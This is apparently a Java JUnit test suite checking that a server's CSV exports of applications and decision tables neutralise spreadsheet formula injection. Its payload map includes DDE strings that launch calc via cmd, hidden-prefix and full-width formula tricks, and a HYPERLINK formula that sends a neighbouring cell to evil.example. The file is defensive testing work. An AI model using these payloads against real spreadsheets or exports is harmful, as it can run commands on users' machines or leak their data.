package org.bulwark.server.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.bulwark.server.ApiUser;
import org.bulwark.server.Browser;
import org.bulwark.server.Server;
import org.bulwark.server.TestServer;
import org.bulwark.server.access.UserRole;
import org.bulwark.server.decision.policy.TestPolicy;
import org.bulwark.server.web.Csv;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.extension.ExtendWith;

/** Texts that a spreadsheet would run, in every file that leaves the house as CSV. */
@ExtendWith(TestServer.class)
class CsvFormulasTest {

    private static final Map<String, String> TRICKS = new LinkedHashMap<>();

    static {
        TRICKS.put("an equals sign", "=1+1");
        TRICKS.put("a plus", "+1+cmd|' /C calc'!A0");
        TRICKS.put("a minus", "-2+3+cmd|' /C calc'!A0");
        TRICKS.put("an at sign", "@SUM(1+1)*cmd|' /C calc'!A0");
        TRICKS.put("a tab before", "\t=1+1");
        TRICKS.put("a carriage return before", "\r=1+1");
        TRICKS.put("a line end before", "\n=1+1");
        TRICKS.put("blanks before", "   =1+1");
        TRICKS.put("a no-break space before", "\u00a0=1+1");
        TRICKS.put("an ideographic space before", "\u3000=1+1");
        TRICKS.put("a mark of byte order before", "\ufeff=1+1");
        TRICKS.put("a zero-width space before", "\u200b=1+1");
        TRICKS.put("a full-width equals sign", "\uff1d1+1");
        TRICKS.put("a full-width plus", "\uff0b1");
        TRICKS.put("a full-width minus", "\uff0d1");
        TRICKS.put("a full-width at sign", "\uff20SUM(1)");
        TRICKS.put("quotes that end the cell", "x\",=1+1,\"");
        TRICKS.put("a semicolon, where that parts cells", "x;=1+1");
        TRICKS.put("a tab, where that parts cells", "x\t=1+1");
        TRICKS.put("a line of its own", "x\r\n=1+1");
        TRICKS.put("a link that sends the cell beside", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        TRICKS.put("the separator named in a first line", "sep=;\r\n=1+1");
        TRICKS.put("an apostrophe already", "'=1+1");
    }

    @TestFactory
    Stream<DynamicTest> aCellStaysATextThatBeginsWith() {
        return TRICKS.entrySet().stream()
                .map(trick -> DynamicTest.dynamicTest(trick.getKey(), () -> {
                    List<List<String>> lines = cells(Csv.line(List.of("first", trick.getValue(), "last")));
                    assertThat(lines).hasSize(1);
                    assertThat(lines.getFirst()).hasSize(3).noneMatch(CsvFormulasTest::isFormula);
                    assertThat(lines.getFirst().get(1)).endsWith(trick.getValue());
                    assertThat(unquoted(Csv.line(List.of("first", trick.getValue(), "last"))))
                            .isTrue();
                }));
    }

    @TestFactory
    Stream<DynamicTest> theListOfApplicationsAsAFileSurvivesAnApplicantCalled(Server server) {
        ApiUser machine = ApiUser.of(server, UserRole.MACHINE);
        Browser officer = Browser.as(server, UserRole.OFFICER, Set.of("CSV1"));
        return TRICKS.entrySet().stream()
                .map(trick -> DynamicTest.dynamicTest(trick.getKey(), () -> {
                    HttpResponse<String> taken = machine.post(
                            "/api/decision/applications",
                            GoodRequest.at(server, "CSV1")
                                    .with("applicant", who -> who.put("name", trick.getValue()))
                                    .json());
                    assertThat(taken.statusCode()).isIn(201, 422);
                    String file = officer.get("/decision/applications/export").body();
                    assertThat(cells(file.substring(1)))
                            .allSatisfy(line -> assertThat(line).noneMatch(CsvFormulasTest::isFormula));
                }));
    }

    @TestFactory
    Stream<DynamicTest> aDecisionTableAsAFileSurvivesANoteThatBeginsWith(Server server) {
        ApiUser modeller = ApiUser.of(server, UserRole.MODELLER);
        return TRICKS.entrySet().stream()
                .map(trick -> DynamicTest.dynamicTest(trick.getKey(), () -> {
                    String product = TestPolicy.product(server);
                    String written =
                            tools.jackson.databind.json.JsonMapper.shared().writeValueAsString(trick.getValue());
                    HttpResponse<String> draft = modeller.send(
                            "POST",
                            "/api/decision/policies/" + product + "/versions",
                            "application/yaml",
                            TestPolicy.text(product).replace("what an officer may still consider", written));
                    assertThat(draft.statusCode()).as(draft.body()).isIn(201, 422);
                    if (draft.statusCode() == 201) {
                        String file = modeller.get(
                                        "/api/decision/policies/" + product + "/versions/1/tables/appetite/csv")
                                .body();
                        assertThat(cells(file.substring(1)))
                                .allSatisfy(line -> assertThat(line).noneMatch(CsvFormulasTest::isFormula));
                    }
                }));
    }

    /** What is not within quotes holds nothing that a spreadsheet of another country would part cells by. */
    private static boolean unquoted(String line) {
        String bare = line.replaceAll("\"([^\"]|\"\")*\"", "").strip();
        return bare.chars().noneMatch(c -> c == ';' || c == '\t' || c == '\r' || c == '\n');
    }

    /** As spreadsheets judge: blanks and signs without width before it do not help. */
    private static boolean isFormula(String cell) {
        String bare = cell.replaceFirst("^[\\s\\u00a0\\u3000\\ufeff\\u200b]+", "");
        // Numbers of ours may be below nothing.
        return !bare.isEmpty()
                && "=+-@\uff1d\uff0b\uff0d\uff20".indexOf(bare.charAt(0)) >= 0
                && !bare.matches("-[0-9.]+|-");
    }

    /** The cells after RFC 4180. */
    static List<List<String>> cells(String csv) {
        List<List<String>> lines = new ArrayList<>();
        List<String> line = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n') {
                line.add(cell.toString());
                cell.setLength(0);
                if (c == '\n') {
                    lines.add(line);
                    line = new ArrayList<>();
                }
            } else if (c != '\r') {
                cell.append(c);
            }
        }
        return lines;
    }
}
